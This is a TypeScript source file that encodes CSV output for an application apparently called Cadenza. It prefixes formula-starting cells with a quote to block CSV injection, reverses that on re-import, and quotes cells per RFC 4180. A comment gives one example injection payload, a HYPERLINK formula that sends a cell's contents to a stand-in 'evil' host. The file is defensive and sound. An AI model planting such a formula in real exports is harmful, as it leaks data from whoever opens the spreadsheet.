/**
 * Writing CSV: the one place every CSV Cadenza writes is encoded (the import rejects report, the
 * suppression export, the CLI's refusals, the demo's leads file).
 *
 * A cell that begins with `=`, `+`, `-` or `@` (or a tab or carriage return, which spreadsheets
 * skip before looking for one) is a formula to Excel, LibreOffice and Google Sheets: a lead's
 * name `=HYPERLINK("http://evil/?"&A1)` would run in the spreadsheet of whoever opens the
 * export (CSV injection). Such a cell is written with a leading `'`, which spreadsheets show as
 * text and do not display; `restoreFormulaText` undoes it when Cadenza reads its own file back.
 */
// Quotes already in front are counted in, so that restoring is exact: `'=x` is written `''=x`.
const FORMULA_START = /^'*[=+\-@\t\r]/;

export function neutraliseFormula(cell: string): string {
  return FORMULA_START.test(cell) ? `'${cell}` : cell;
}

/** The cell as it was before neutraliseFormula (for a reject file imported again). */
export function restoreFormulaText(cell: string): string {
  return cell.startsWith("'") && FORMULA_START.test(cell.slice(1)) ? cell.slice(1) : cell;
}

/** One cell: neutralised, then quoted where needed (RFC 4180), or where its edge spaces would be trimmed on reading. */
export function csvCell(value: string, delimiter = ','): string {
  const c = neutraliseFormula(value);
  if (c === '') return c;
  const needs = c.includes(delimiter) || c.includes('"') || c.includes('\n') || c.includes('\r') || c !== c.trim();
  return needs ? `"${c.replace(/"/g, '""')}"` : c;
}

/** One record with its line end (CRLF, as RFC 4180 says, unless told). */
export function csvRecord(cells: readonly string[], delimiter = ',', eol = '\r\n'): string {
  return cells.map((c) => csvCell(c, delimiter)).join(delimiter) + eol;
}
